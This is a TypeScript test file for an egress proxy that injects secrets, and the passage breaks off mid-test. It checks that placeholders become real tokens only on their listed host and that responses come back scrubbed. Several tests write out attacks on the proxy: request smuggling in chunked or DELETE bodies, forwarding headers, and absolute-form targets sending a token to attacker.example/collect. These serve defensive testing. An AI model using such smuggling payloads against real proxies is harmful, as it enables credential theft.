// Secrets at the egress proxy, end to end on this machine: a real unix-socket proxy, real TLS
// (the run's CA on the sandbox side, an independent test CA on the upstream side), real HTTP/1.1
// and HTTP/2 clients and servers on 127.0.0.1. The names (api.test, other.test) exist only in
// the injected resolver; the guard lets 127.0.0.1 through and nothing else.
import fs from "node:fs";
import http from "node:http";
import http2 from "node:http2";
import https from "node:https";
import type { AddressInfo } from "node:net";
import os from "node:os";
import path from "node:path";
import tls from "node:tls";
import zlib from "node:zlib";
import { afterAll, afterEach, beforeAll, describe, expect, it } from "vitest";
import { createAddressGuard } from "../../src/proxy/address-guard.js";
import { createDomainFilter } from "../../src/proxy/domain-filter.js";
import { type EgressDecision, type EgressProxy, startEgressProxy } from "../../src/proxy/egress-proxy.js";
import { createRunCa, type RunCa } from "../../src/proxy/run-ca.js";
import type { SecretBinding } from "../../src/proxy/secret-bindings.js";
import { createSecretInterception } from "../../src/proxy/secret-interception.js";

const TOKEN = "ghp_REALtoken0123456789abcdefREAL";
const PLACEHOLDER = "sandbox-run-placeholder-GITHUB_TOKEN-00112233445566778899aabbccddeeff";
const KEY = "key-REAL-5f3c9a1e7d";
const KEY_PLACEHOLDER = "sandbox-run-placeholder-ACME_KEY-ffeeddccbbaa99887766554433221100";
const b64 = (s: string) => Buffer.from(s).toString("base64");
/** A token with the characters JSON, URLs and HTML escape (secret-bindings.ts accepts any printable ASCII). */
const ODD = String.raw`Pa"ss\w0<rd>&'REAL-0123456789`;
const ODD_PLACEHOLDER = "sandbox-run-placeholder-ODD_TOKEN-0123456789abcdef0123456789abcdef";
/** How an httpbin-style host reflects a header: JSON (Python/Node, then Go's), HTML, URL-encoded. */
const reflect = (v: string) => {
  const json = JSON.stringify({ headers: { "X-Odd-Key": v } });
  const go = json.replace(/[<>&]/g, (c) => `\\u00${c.charCodeAt(0).toString(16)}`);
  const html = v
    .replace(/&/g, "&amp;")
    .replace(/</g, "&lt;")
    .replace(/>/g, "&gt;")
    .replace(/"/g, "&quot;")
    .replace(/'/g, "&#x27;");
  return `${json}\n${go}\n<p>${html}</p>\n?k=${encodeURIComponent(v)}\n`;
};

const bindings: SecretBinding[] = [
  {
    name: "GITHUB_TOKEN",
    hosts: ["api.test"],
    inject: [{ kind: "bearer" }, { kind: "basic" }],
    placeholder: PLACEHOLDER,
    value: TOKEN,
    username: "x-access-token",
  },
  {
    name: "ACME_KEY",
    hosts: ["h1only.test"],
    inject: [{ kind: "header", header: "X-Api-Key" }],
    placeholder: KEY_PLACEHOLDER,
    value: KEY,
    username: "x-access-token",
  },
  {
    name: "ODD_TOKEN",
    hosts: ["odd.test"],
    inject: [{ kind: "header", header: "X-Odd-Key" }],
    placeholder: ODD_PLACEHOLDER,
    value: ODD,
    username: "x-access-token",
  },
];

interface Seen {
  host: string;
  protocol: string;
  method: string;
  path: string;
  headers: http.IncomingHttpHeaders;
  body: string;
}

const dir = fs.mkdtempSync(path.join(os.tmpdir(), "sandbox-run-secrets-test-"));
// The upstream servers' CA: made here, trusted by the proxy only through `upstreamCa`.
const upstreamCa = createRunCa({
  label: "upstream test",
  hosts: ["api.test", "other.test", "h1only.test", "odd.test"],
  validForMs: 3_600_000,
});
const upstreamContext = (host: string) =>
  tls.createSecureContext({ key: upstreamCa.leafKeyPem, cert: upstreamCa.issue(host) });
const seen: Seen[] = [];
let h2Server: http2.Http2SecureServer;
let h2Port: number;
let h1Server: https.Server;
let h1Port: number;
let proxy: EgressProxy | undefined;
let runCa: RunCa;
/** Requests to /hold: never answered while the test runs. */
const held: http.ServerResponse[] = [];
/** A raw HTTP/1.1 upstream: answers /<name> with ANSWERS[name], byte for byte. */
let rawServer: tls.Server;
let rawPort: number;
const ANSWERS: Record<string, string> = {
  "status-999": "HTTP/1.1 999 Whatever\r\ncontent-length: 2\r\n\r\nok",
  "http2-settings": "HTTP/1.1 200 OK\r\nhttp2-settings: AAMAAABkAAQAoAAAAAIAAAAA\r\ncontent-length: 2\r\n\r\nok",
  "connection-named": "HTTP/1.1 200 OK\r\nconnection: x-hop\r\nx-hop: 1\r\ncontent-length: 2\r\n\r\nok",
  "five-codings": `HTTP/1.1 200 OK\r\ncontent-encoding: gzip, gzip, gzip, gzip, gzip\r\ncontent-length: 2\r\n\r\nok`,
};

/** Answers every request; /echo reflects the credentials, /gzip does so compressed. */
function upstreamHandler(req: http.IncomingMessage | http2.Http2ServerRequest, res: http.ServerResponse) {
  const chunks: Buffer[] = [];
  req.on("data", (c: Buffer) => chunks.push(c));
  req.on("end", () => {
    const host = String(req.headers[":authority"] ?? req.headers.host);
    seen.push({
      host,
      protocol: `HTTP/${req.httpVersion}`,
      method: req.method ?? "",
      path: req.url ?? "",
      headers: req.headers,
      body: Buffer.concat(chunks).toString(),
    });
    if (req.url === "/hold") return void held.push(res);
    const echoed = `authorization=${req.headers.authorization ?? ""} x-api-key=${req.headers["x-api-key"] ?? ""}`;
    if (req.url === "/gzip") {
      res.writeHead(200, { "content-encoding": "gzip", "x-echo": echoed });
      return res.end(zlib.gzipSync(`${echoed} raw=${TOKEN}`));
    }
    if (req.url === "/te-gzip") {
      // A transfer coding (HTTP/1.1 only): Node's client undoes `chunked` and hands over the gzip.
      res.writeHead(200, { "transfer-encoding": "gzip, chunked", "content-type": "text/plain" });
      return res.end(zlib.gzipSync(`${echoed} raw=${TOKEN}`));
    }
    if (req.url === "/reflect") {
      // httpbin's /headers: the header's value escaped as encoders write it, a few bytes a write.
      const body = reflect(String(req.headers["x-odd-key"] ?? ""));
      res.writeHead(200, { "content-type": "application/json", "x-echo": JSON.stringify(req.headers["x-odd-key"]) });
      for (let i = 0; i < body.length; i += 5) res.write(body.slice(i, i + 5));
      return res.end();
    }
    if (req.url === "/echo-credential") {
      // The Basic credential without its scheme, and again re-encoded one byte further on.
      const credential = String(req.headers.authorization ?? "").replace(/^Basic /, "");
      const shifted = b64(`!${Buffer.from(credential, "base64").toString("latin1")}?`);
      res.writeHead(200, { "content-type": "text/plain", "x-credential": credential });
      return res.end(`credential=${credential} shifted=${shifted}`);
    }
    res.writeHead(200, { "content-type": "text/plain", "x-echo": echoed });
    res.end(req.url === "/echo" ? `${echoed} raw=${TOKEN} b64=${b64(TOKEN)}` : "ok");
  });
}

beforeAll(async () => {
  h2Server = http2.createSecureServer(
    { allowHTTP1: true, SNICallback: (name, cb) => cb(null, upstreamContext(name)) },
    upstreamHandler as never,
  );
  await new Promise<void>((resolve) => h2Server.listen(0, "127.0.0.1", resolve));
  h2Port = (h2Server.address() as AddressInfo).port;
  h1Server = https.createServer({ SNICallback: (name, cb) => cb(null, upstreamContext(name)) }, upstreamHandler);
  await new Promise<void>((resolve) => h1Server.listen(0, "127.0.0.1", resolve));
  h1Port = (h1Server.address() as AddressInfo).port;
  rawServer = tls.createServer({ SNICallback: (name, cb) => cb(null, upstreamContext(name)) }, (socket) => {
    let head = "";
    socket.on("error", () => {});
    socket.on("data", (d: Buffer) => {
      head += d.toString("latin1");
      const path = /^\S+ \/(\S*) /.exec(head)?.[1];
      if (head.includes("\r\n\r\n") && path !== undefined) socket.end(ANSWERS[path] ?? "HTTP/1.1 404 No\r\n\r\n");
    });
  });
  await new Promise<void>((resolve) => rawServer.listen(0, "127.0.0.1", resolve));
  rawPort = (rawServer.address() as AddressInfo).port;
});

afterEach(async () => {
  await proxy?.close();
  proxy = undefined;
});

afterAll(() => {
  for (const res of held) res.destroy();
  rawServer.close();
  h2Server.close();
  h1Server.closeAllConnections();
  h1Server.close();
  fs.rmSync(dir, { recursive: true, force: true });
});

const guard = createAddressGuard();

async function start(options: { trustUpstream?: boolean; upstreamPort?: number } = {}) {
  const decisions: EgressDecision[] = [];
  runCa = createRunCa({ label: "unit", hosts: ["api.test", "h1only.test", "odd.test"], validForMs: 3_600_000 });
  const socketPath = path.join(dir, `p-${Math.random().toString(16).slice(2)}.sock`);
  proxy = await startEgressProxy({
    socketPath,
    filter: createDomainFilter(["api.test", "other.test", "h1only.test", "odd.test"], { ports: [80, 443] }),
    onDecision: (d) => decisions.push(d),
    resolve: async () => [{ address: "127.0.0.1", family: 4 }],
    guard: (address) => (address === "127.0.0.1" ? undefined : guard(address)),
    upstreamPort: (host, port) =>
      port === 80 ? port : (options.upstreamPort ?? (host === "h1only.test" ? h1Port : h2Port)),
    interception: createSecretInterception({
      bindings,
      ca: runCa,
      upstreamCa: options.trustUpstream === false ? undefined : [upstreamCa.certificatePem],
    }),
  });
  return { socketPath, decisions };
}

/** CONNECT through the proxy, then TLS as the sandbox's client would do it. */
function tunnel(socketPath: string, authority: string, tlsOptions: tls.ConnectionOptions): Promise<tls.TLSSocket> {
  return new Promise((resolve, reject) => {
    const req = http.request({ socketPath, method: "CONNECT", path: authority });
    req.on("connect", (res, socket) => {
      if (res.statusCode !== 200) return reject(new Error(`CONNECT answered ${res.statusCode}`));
      const secure = tls.connect({ socket, ...tlsOptions });
      secure.once("secureConnect", () => resolve(secure));
      secure.once("error", reject);
    });
    req.on("error", reject);
    req.end();
  });
}

interface Answer {
  status: number;
  headers: Record<string, unknown>;
  body: string;
}

function http1Request(
  socket: tls.TLSSocket,
  options: { path: string; host: string; headers?: Record<string, string>; body?: string; method?: string },
): Promise<Answer> {
  return new Promise((resolve, reject) => {
    const req = http.request(
      {
        createConnection: () => socket,
        method: options.method ?? "GET",
        path: options.path,
        headers: { host: options.host, ...options.headers },
      },
      (res) => {
        const chunks: Buffer[] = [];
        res.on("data", (c: Buffer) => chunks.push(c));
        res.on("end", () =>
          resolve({ status: res.statusCode ?? 0, headers: res.headers, body: Buffer.concat(chunks).toString() }),
        );
      },
    );
    req.on("error", reject);
    req.end(options.body);
  });
}

function http2Request(
  socket: tls.TLSSocket,
  options: { path: string; authority: string; headers?: Record<string, string> },
): Promise<Answer> {
  return new Promise((resolve, reject) => {
    const session = http2.connect(`https://${options.authority}`, { createConnection: () => socket });
    session.on("error", reject);
    const stream = session.request({ ":path": options.path, ":authority": options.authority, ...options.headers });
    stream.on("response", (headers) => {
      const chunks: Buffer[] = [];
      stream.on("data", (c: Buffer) => chunks.push(c));
      stream.on("end", () => {
        session.close();
        resolve({ status: Number(headers[":status"]), headers, body: Buffer.concat(chunks).toString() });
      });
    });
    stream.on("error", reject);
    stream.end();
  });
}

const trustRunCa = (servername: string, alpn = ["http/1.1"]): tls.ConnectionOptions => ({
  servername,
  ca: runCa.certificatePem,
  ALPNProtocols: alpn,
});

describe("injection on a secret's host", () => {
  it("HTTP/1.1: Bearer placeholder becomes the value upstream; the echo comes back scrubbed", async () => {
    const { socketPath, decisions } = await start();
    const from = seen.length;
    const socket = await tunnel(socketPath, "api.test:443", trustRunCa("api.test"));
    // The sandbox's client verified the proxy's certificate against the run's CA.
    expect(socket.authorized).toBe(true);
    const answer = await http1Request(socket, {
      path: "/echo",
      host: "api.test",
      headers: { authorization: `Bearer ${PLACEHOLDER}` },
    });
    socket.destroy();
    expect(answer.status).toBe(200);
    expect(seen[from]).toMatchObject({ host: "api.test", path: "/echo" });
    expect(seen[from]!.headers.authorization).toBe(`Bearer ${TOKEN}`);
    expect(seen[from]!.headers["accept-encoding"]).toBe("identity");
    expect(answer.body).toBe(
      `authorization=Bearer ${PLACEHOLDER} x-api-key= raw=${PLACEHOLDER} b64=${b64(PLACEHOLDER)}`,
    );
    expect(answer.headers["x-echo"]).toBe(`authorization=Bearer ${PLACEHOLDER} x-api-key=`);
    expect(JSON.stringify(answer)).not.toContain(TOKEN);
    expect(decisions).toEqual([
      expect.objectContaining({ action: "allowed", host: "api.test", port: 443, method: "CONNECT", terminated: true }),
      {
        action: "injected",
        host: "api.test",
        port: 443,
        method: "GET",
        reason: "GITHUB_TOKEN put into the request's headers",
        secret: "GITHUB_TOKEN",
      },
    ]);
  });

  it("HTTP/2 end to end (ALPN h2 on both sides), with `token` scheme and HTTP basic as git sends it", async () => {
    const { socketPath, decisions } = await start();
    const from = seen.length;
    const socket = await tunnel(socketPath, "api.test:443", trustRunCa("api.test", ["h2", "http/1.1"]));
    expect(socket.alpnProtocol).toBe("h2");
    const session = http2.connect("https://api.test", { createConnection: () => socket });
    const ask = (headers: Record<string, string>) =>
      new Promise<Answer>((resolve, reject) => {
        const stream = session.request({ ":path": "/echo", ...headers });
        stream.on("response", (h) => {
          const chunks: Buffer[] = [];
          stream.on("data", (c: Buffer) => chunks.push(c));
          stream.on("end", () =>
            resolve({ status: Number(h[":status"]), headers: h, body: Buffer.concat(chunks).toString() }),
          );
        });
        stream.on("error", reject);
        stream.end();
      });
    const token = await ask({ authorization: `token ${PLACEHOLDER}` });
    const basic = await ask({ authorization: `Basic ${b64(`x-access-token:${PLACEHOLDER}`)}` });
    session.close();
    expect(seen.slice(from).map((s) => [s.protocol, s.headers.authorization])).toEqual([
      ["HTTP/2.0", `token ${TOKEN}`],
      ["HTTP/2.0", `Basic ${b64(`x-access-token:${TOKEN}`)}`],
    ]);
    expect(token.body).toContain(`authorization=token ${PLACEHOLDER}`);
    // The echoed Basic credentials are the ones the client sent, not the injected ones.
    expect(basic.headers["x-echo"]).toBe(`authorization=Basic ${b64(`x-access-token:${PLACEHOLDER}`)} x-api-key=`);
    expect(JSON.stringify([token, basic])).not.toContain(TOKEN);
    expect(JSON.stringify([token, basic])).not.toContain(b64(`x-access-token:${TOKEN}`));
    // One "injected" event per tunnel and secret, however many requests.
    expect(decisions.filter((d) => d.action === "injected")).toHaveLength(1);
  });

  it("HTTP/2 from the sandbox to an HTTP/1.1-only upstream, with a named-header secret", async () => {
    const { socketPath } = await start();
    const from = seen.length;
    const socket = await tunnel(socketPath, "h1only.test:443", trustRunCa("h1only.test", ["h2"]));
    const answer = await http2Request(socket, {
      path: "/echo",
      authority: "h1only.test",
      headers: { "x-api-key": KEY_PLACEHOLDER },
    });
    expect(seen[from]).toMatchObject({ host: "h1only.test", protocol: "HTTP/1.1" });
    expect(seen[from]!.headers["x-api-key"]).toBe(KEY);
    expect(answer.body).toContain(`x-api-key=${KEY_PLACEHOLDER}`);
    expect(answer.body).not.toContain(KEY);
  });

  it("a compressed answer is decompressed and scrubbed, even when the upstream ignores identity", async () => {
    const { socketPath } = await start();
    const socket = await tunnel(socketPath, "api.test:443", trustRunCa("api.test"));
    const answer = await http1Request(socket, {
      path: "/gzip",
      host: "api.test",
      headers: { authorization: `Bearer ${PLACEHOLDER}`, "accept-encoding": "gzip" },
    });
    socket.destroy();
    expect(answer.headers["content-encoding"]).toBeUndefined();
    expect(answer.body).toBe(`authorization=Bearer ${PLACEHOLDER} x-api-key= raw=${PLACEHOLDER}`);
  });

  it("a body with a transfer coding (Transfer-Encoding: gzip, chunked) is decoded and scrubbed", async () => {
    const { socketPath } = await start();
    const socket = await tunnel(socketPath, "api.test:443", trustRunCa("api.test"));
    const answer = await http1Request(socket, {
      path: "/te-gzip",
      host: "api.test",
      headers: { authorization: `Bearer ${PLACEHOLDER}`, te: "gzip" },
    });
    socket.destroy();
    expect(answer.status).toBe(200);
    expect(answer.body).toBe(`authorization=Bearer ${PLACEHOLDER} x-api-key= raw=${PLACEHOLDER}`);
  });

  it("a value with \" \\ < > & ' reflected JSON-escaped (Python/Node and Go), HTML-escaped and URL-encoded comes back scrubbed in each form", async () => {
    const { socketPath } = await start();
    const from = seen.length;
    for (const alpn of [["http/1.1"], ["h2"]]) {
      const socket = await tunnel(socketPath, "odd.test:443", trustRunCa("odd.test", alpn));
      const answer =
        alpn[0] === "h2"
          ? await http2Request(socket, {
              path: "/reflect",
              authority: "odd.test",
              headers: { "x-odd-key": ODD_PLACEHOLDER },
            })
          : await http1Request(socket, {
              path: "/reflect",
              host: "odd.test",
              headers: { "x-odd-key": ODD_PLACEHOLDER },
            });
      socket.destroy();
      expect(answer.status).toBe(200);
      // The placeholder has nothing to escape: each form is replaced by the placeholder itself.
      expect(answer.body).toBe(reflect(ODD_PLACEHOLDER));
      expect(answer.headers["x-echo"]).toBe(JSON.stringify(ODD_PLACEHOLDER));
      expect(JSON.stringify(answer)).not.toContain("REAL-0123456789");
    }
    expect(seen.slice(from).map((s) => s.headers["x-odd-key"])).toEqual([ODD, ODD]);
  });

  it("a Basic credential echoed without its scheme, or at another base64 alignment, comes back scrubbed for every user name length", async () => {
    const { socketPath } = await start();
    for (const user of ["x", "ab", "abc", "abcd", "x-access-token"]) {
      const socket = await tunnel(socketPath, "api.test:443", trustRunCa("api.test"));
      const sent = b64(`${user}:${PLACEHOLDER}`);
      const answer = await http1Request(socket, {
        path: "/echo-credential",
        host: "api.test",
        headers: { authorization: `Basic ${sent}` },
      });
      socket.destroy();
      expect(answer.headers["x-credential"], user).toBe(sent);
      expect(answer.body.startsWith(`credential=${sent} shifted=`), user).toBe(true);
      for (const word of [answer.body, ...answer.body.split(/[= ]/)]) {
        const decoded = Buffer.from(word, "base64").toString("latin1");
        for (let i = 0; i + 6 <= TOKEN.length; i++)
          expect(decoded, `${user}: ${word}`).not.toContain(TOKEN.slice(i, i + 6));
      }
      expect(answer.body, user).not.toContain(b64(`${user}:${TOKEN}`));
    }
  });

  it("holds at most 16 TLS-terminated connections at once: the next CONNECT to a secret's host gets 503", async () => {
    const { socketPath } = await start();
    const held = await Promise.all(
      Array.from({ length: 16 }, () => tunnel(socketPath, "api.test:443", trustRunCa("api.test"))),
    );
    await expect(tunnel(socketPath, "api.test:443", trustRunCa("api.test"))).rejects.toThrow(/CONNECT answered 503/);
    held[0]!.destroy();
    await new Promise((r) => setTimeout(r, 100));
    const again = await tunnel(socketPath, "api.test:443", trustRunCa("api.test"));
    for (const socket of [...held, again]) socket.destroy();
  });

  it("never puts the value into the URL or the body, where the placeholder stays as it is", async () => {
    const { socketPath } = await start();
    const from = seen.length;
    const socket = await tunnel(socketPath, "api.test:443", trustRunCa("api.test"));
    await http1Request(socket, {
      method: "POST",
      path: `/search?access_token=${PLACEHOLDER}`,
      host: "api.test",
      headers: { "x-other": PLACEHOLDER },
      body: `{"token":"${PLACEHOLDER}"}`,
    });
    socket.destroy();
    expect(seen[from]!.path).toBe(`/search?access_token=${PLACEHOLDER}`);
    expect(seen[from]!.body).toBe(`{"token":"${PLACEHOLDER}"}`);
    expect(seen[from]!.headers["x-other"]).toBe(PLACEHOLDER);
  });

  it("verifies the real upstream: an upstream the host does not trust gets a 502, nothing is sent", async () => {
    const { socketPath, decisions } = await start({ trustUpstream: false });
    const from = seen.length;
    const socket = await tunnel(socketPath, "api.test:443", trustRunCa("api.test"));
    const answer = await http1Request(socket, {
      path: "/",
      host: "api.test",
      headers: { authorization: `Bearer ${PLACEHOLDER}` },
    });
    socket.destroy();
    expect(answer.status).toBe(502);
    expect(seen.length).toBe(from);
    expect(decisions.at(-1)).toMatchObject({ action: "failed", host: "api.test" });
    expect(String(decisions.at(-1)?.reason)).toMatch(
      /UNABLE_TO_VERIFY_LEAF_SIGNATURE|SELF_SIGNED|UNABLE_TO_GET_ISSUER/,
    );
  });
});

describe("no secret where the destination is not the listed host", () => {
  it("a placeholder to another allowed host goes through a plain tunnel as a placeholder", async () => {
    const { socketPath, decisions } = await start();
    const from = seen.length;
    // A plain tunnel: the client sees the upstream's own certificate, not the run CA's.
    const socket = await tunnel(socketPath, "other.test:443", {
      servername: "other.test",
      ca: upstreamCa.certificatePem,
      ALPNProtocols: ["http/1.1"],
    });
    const answer = await http1Request(socket, {
      path: "/echo",
      host: "other.test",
      headers: { authorization: `Bearer ${PLACEHOLDER}` },
    });
    socket.destroy();
    expect(answer.status).toBe(200);
    expect(seen[from]!.headers.authorization).toBe(`Bearer ${PLACEHOLDER}`);
    expect(decisions.map((d) => [d.action, d.host, d.terminated])).toEqual([["allowed", "other.test", undefined]]);
  });

  it("a placeholder in a plain-HTTP request is refused and reported, listed host or not", async () => {
    const { socketPath, decisions } = await start();
    const from = seen.length;
    const ask = (url: string, headers: Record<string, string>) =>
      new Promise<number>((resolve, reject) =>
        http
          .request({ socketPath, path: url, headers: { host: new URL(url).host, ...headers } }, (res) => {
            res.resume();
            resolve(res.statusCode ?? 0);
          })
          .on("error", reject)
          .end(),
      );
    expect(await ask("http://other.test/", { authorization: `Bearer ${PLACEHOLDER}` })).toBe(403);
    expect(await ask("http://api.test/", { authorization: `Basic ${b64(`u:${PLACEHOLDER}`)}` })).toBe(403);
    expect(await ask(`http://other.test/?t=${PLACEHOLDER}`, {})).toBe(403);
    expect(seen.length).toBe(from);
    expect(decisions).toEqual([
      {
        action: "denied",
        host: "other.test",
        port: 80,
        method: "GET",
        secret: "GITHUB_TOKEN",
        reason:
          "the request to other.test carries the placeholder of secret GITHUB_TOKEN, which may only be sent to api.test",
      },
      {
        action: "denied",
        host: "api.test",
        port: 80,
        method: "GET",
        secret: "GITHUB_TOKEN",
        reason: "secret GITHUB_TOKEN is only sent over HTTPS, and this request to api.test is plain HTTP",
      },
      expect.objectContaining({ action: "denied", host: "other.test", secret: "GITHUB_TOKEN" }),
    ]);
  });

  it("domain fronting: a Host header other than the tunnel's host gets no secret, and is reported", async () => {
    const { socketPath, decisions } = await start();
    const from = seen.length;
    const socket = await tunnel(socketPath, "api.test:443", trustRunCa("api.test"));
    const answer = await http1Request(socket, {
      path: "/echo",
      host: "other.test",
      headers: { authorization: `Bearer ${PLACEHOLDER}` },
    });
    socket.destroy();
    expect(answer.status).toBe(403);
    expect(answer.body).toContain("the Host header (other.test) is not the host dialled (api.test:443)");
    expect(seen.length).toBe(from);
    expect(decisions.at(-1)).toMatchObject({ action: "denied", host: "api.test", secret: "GITHUB_TOKEN" });
  });

  it("a TLS server name other than the tunnel's host gets no secret (the client saw api.test's certificate)", async () => {
    const { socketPath, decisions } = await start();
    const from = seen.length;
    const socket = await tunnel(socketPath, "api.test:443", {
      servername: "other.test",
      rejectUnauthorized: false,
      ALPNProtocols: ["http/1.1"],
    });
    expect(socket.getPeerCertificate().subjectaltname).toBe("DNS:api.test");
    const answer = await http1Request(socket, {
      path: "/",
      host: "api.test",
      headers: { authorization: `Bearer ${PLACEHOLDER}` },
    });
    socket.destroy();
    expect(answer.status).toBe(403);
    expect(answer.body).toContain("the TLS server name (other.test) is not the host dialled (api.test)");
    expect(seen.length).toBe(from);
    expect(decisions.at(-1)).toMatchObject({ action: "denied", secret: "GITHUB_TOKEN" });
  });

  it("a secret listed for one host is refused on another secret's host", async () => {
    const { socketPath, decisions } = await start();
    const socket = await tunnel(socketPath, "h1only.test:443", trustRunCa("h1only.test"));
    const answer = await http1Request(socket, {
      path: "/",
      host: "h1only.test",
      headers: { authorization: `Bearer ${PLACEHOLDER}`, "x-api-key": KEY_PLACEHOLDER },
    });
    socket.destroy();
    expect(answer.status).toBe(403);
    expect(decisions.at(-1)).toMatchObject({
      action: "denied",
      host: "h1only.test",
      secret: "GITHUB_TOKEN",
      reason:
        "the request to h1only.test carries the placeholder of secret GITHUB_TOKEN, which may only be sent to api.test",
    });
  });

  it("a request without placeholders on a secret's host passes untouched", async () => {
    const { socketPath, decisions } = await start();
    const from = seen.length;
    const socket = await tunnel(socketPath, "api.test:443", trustRunCa("api.test"));
    const answer = await http1Request(socket, {
      path: "/",
      host: "api.test",
      headers: { authorization: "Bearer mine" },
    });
    socket.destroy();
    expect(answer.body).toBe("ok");
    expect(seen[from]!.headers.authorization).toBe("Bearer mine");
    expect(decisions.map((d) => d.action)).toEqual(["allowed"]);
  });
});

describe("what one terminated connection can make the proxy do", () => {
  it("HTTP/1.1: pipelined requests go upstream one at a time, answered in order", async () => {
    const { socketPath } = await start();
    const from = seen.length;
    const socket = await tunnel(socketPath, "api.test:443", trustRunCa("api.test"));
    const received: Buffer[] = [];
    socket.on("data", (c: Buffer) => received.push(c));
    const paths = ["/one", "/two", "/three"];
    socket.write(paths.map((p) => `GET ${p} HTTP/1.1\r\nHost: api.test\r\n\r\n`).join(""));
    await new Promise<void>((resolve) =>
      socket.on(
        "data",
        () => Buffer.concat(received).toString().split("HTTP/1.1 200").length > paths.length && resolve(),
      ),
    );
    socket.destroy();
    expect(seen.slice(from).map((r) => r.path)).toEqual(paths);
  });

  it("HTTP/1.1: a connection pipelining more than 16 requests ahead of its answers is closed; the upstream got one of them", async () => {
    const { socketPath } = await start();
    const from = held.length;
    const socket = await tunnel(socketPath, "api.test:443", trustRunCa("api.test"));
    socket.on("error", () => {});
    const closed = new Promise<void>((resolve) => socket.once("close", () => resolve()));
    socket.write("GET /hold HTTP/1.1\r\nHost: api.test\r\n\r\n".repeat(2_000));
    // Before, every request went upstream (8 at once, the rest queued in the agent): stop at the second.
    await Promise.race([
      closed,
      new Promise<void>((resolve) => {
        const poll = setInterval(() => held.length - from > 1 && resolve(), 10);
        void closed.then(() => clearInterval(poll));
      }),
    ]);
    expect(held.length - from).toBeLessThanOrEqual(1);
    await closed;
  });

  it("a body on a GET or DELETE is framed again for an HTTP/1.1 upstream: no request of the sandbox's making rides in it and takes the next request's secret (review, session 44)", async () => {
    const { socketPath } = await start({ upstreamPort: h1Port });
    const from = seen.length;
    // A whole request, then one left open whose head the next request would have completed.
    const smuggled = `GET /smuggled HTTP/1.1\r\nHost: attacker.example\r\n\r\nPOST https://attacker.example/collect HTTP/1.1\r\nContent-Length: 0\r\nX-Ignore: `;
    const h1 = await tunnel(socketPath, "api.test:443", trustRunCa("api.test"));
    const received: Buffer[] = [];
    h1.on("data", (c: Buffer) => received.push(c));
    const h1Closed = new Promise<void>((resolve) => h1.once("close", () => resolve()));
    h1.write(
      `GET /first HTTP/1.1\r\nHost: api.test\r\nTransfer-Encoding: chunked\r\n\r\n${smuggled.length.toString(16)}\r\n${smuggled}\r\n0\r\n\r\n` +
        `GET /second HTTP/1.1\r\nHost: api.test\r\nAuthorization: Bearer ${PLACEHOLDER}\r\nConnection: close\r\n\r\n`,
    );
    await h1Closed;
    expect(
      Buffer.concat(received)
        .toString()
        .match(/^HTTP\/1\.1 200 /gm),
    ).toHaveLength(2);
    // Over HTTP/2 a DELETE's DATA frames, with no content-length, reach the HTTP/1.1-only upstream.
    const h2 = await tunnel(socketPath, "api.test:443", trustRunCa("api.test", ["h2"]));
    const session = http2.connect("https://api.test", { createConnection: () => h2 });
    const ask = (headers: http2.OutgoingHttpHeaders, body?: string) =>
      new Promise<number>((resolve, reject) => {
        // (Node's client ends a DELETE's stream with its headers unless told otherwise.)
        const stream = session.request(headers, { endStream: body === undefined });
        stream.on("response", (h) => {
          stream.resume();
          stream.on("end", () => resolve(Number(h[":status"])));
        });
        stream.on("error", reject);
        stream.end(body);
      });
    expect(await ask({ ":method": "DELETE", ":path": "/h2-first" }, smuggled)).toBe(200);
    expect(await ask({ ":path": "/h2-second", authorization: `Bearer ${PLACEHOLDER}` })).toBe(200);
    session.close();
    const upstream = seen.slice(from);
    expect(upstream.map((r) => [r.method, r.path, r.body])).toEqual([
      ["GET", "/first", smuggled],
      ["GET", "/second", ""],
      ["DELETE", "/h2-first", smuggled],
      ["GET", "/h2-second", ""],
    ]);
    expect(upstream.map((r) => r.headers.authorization)).toEqual([
      undefined,
      `Bearer ${TOKEN}`,
      undefined,
      `Bearer ${TOKEN}`,
    ]);
  });

  it("routing headers and those Connection names do not travel with a secret", async () => {
    const { socketPath } = await start({ upstreamPort: h1Port });
    const h1 = await tunnel(socketPath, "api.test:443", trustRunCa("api.test"));
    const answer = await http1Request(h1, {
      path: "/routed",
      host: "api.test",
      headers: {
        authorization: `Bearer ${PLACEHOLDER}`,
        "x-forwarded-host": "attacker.example",
        forwarded: "host=attacker.example",
        "x-original-url": "https://attacker.example/collect",
        connection: "x-hop",
        "x-hop": "1",
        "x-kept": "1",
      },
    });
    h1.destroy();
    expect(answer.status).toBe(200);
    const upstream = seen.at(-1);
    expect(upstream?.path).toBe("/routed");
    expect(upstream?.headers.authorization).toBe(`Bearer ${TOKEN}`);
    expect(upstream?.headers["x-kept"]).toBe("1");
    for (const name of ["x-forwarded-host", "forwarded", "x-original-url", "x-hop"])
      expect(upstream?.headers[name]).toBeUndefined();
  });

  it("an absolute-form request target is refused (400) and reported: the secret goes nowhere", async () => {
    const { socketPath, decisions } = await start();
    const from = seen.length;
    const h1 = await tunnel(socketPath, "api.test:443", trustRunCa("api.test"));
    const received: Buffer[] = [];
    h1.on("data", (c: Buffer) => received.push(c));
    const h1Closed = new Promise<void>((resolve) => h1.once("close", () => resolve()));
    h1.write(
      `GET https://attacker.example/collect HTTP/1.1\r\nHost: api.test\r\nAuthorization: Bearer ${PLACEHOLDER}\r\nConnection: close\r\n\r\n`,
    );
    await h1Closed;
    expect(Buffer.concat(received).toString()).toMatch(/^HTTP\/1\.1 400 /);
    // Over HTTP/2 nghttp2 itself refuses a :path that is not origin-form (a stream reset).
    const h2 = await tunnel(socketPath, "api.test:443", trustRunCa("api.test", ["h2"]));
    await expect(
      http2Request(h2, {
        path: "https://attacker.example/h2",
        authority: "api.test",
        headers: { authorization: `Bearer ${PLACEHOLDER}` },
      }),
    ).rejects.toThrow(/NGHTTP2_PROTOCOL_ERROR/);
    h2.destroy();
    expect(seen.length).toBe(from);
    expect(decisions.filter((d) => d.action !== "allowed")).toEqual([
      {
        action: "denied",
        host: "api.test",
        port: 443,
        method: "GET",
        reason:
          'only origin-form request targets (/path, not //path) are forwarded to api.test, not "https://attacker.example/collect"',
      },
    ]);
    // Origin-form, and `*` for OPTIONS, still go through.
    const options = await tunnel(socketPath, "api.test:443", trustRunCa("api.test"));
    expect((await http1Request(options, { method: "OPTIONS", path: "*", host: "api.test" })).status).toBe(200);
    options.destroy();
    expect(seen.at(-1)).toMatchObject({ method: "OPTIONS", path: "*" });
  });

  it("a target a URL parser reads as scheme-relative (//host/…, /\\host/…) is refused (400) over HTTP/1.1 and HTTP/2; /a//b still goes", async () => {
    const { socketPath, decisions } = await start();
    const from = seen.length;
